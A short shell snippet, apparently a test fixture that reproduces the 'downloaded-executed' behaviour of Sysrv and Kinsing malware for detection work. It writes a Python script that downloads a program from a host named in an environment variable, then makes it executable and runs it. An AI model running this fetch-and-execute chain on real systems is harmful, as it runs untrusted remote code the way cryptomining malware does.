# incident: Sysrv, Kinsing: fetch, make executable, run
# finding: downloaded-executed
# needs: python3
cat > fetch.py <<'PY'
import os, sys, urllib.request
urllib.request.urlretrieve(f"http://{os.environ['DROP']}/program", sys.argv[1])
PY
python3 fetch.py bin.tmp; mv bin.tmp helper; chmod 755 helper; ./helper
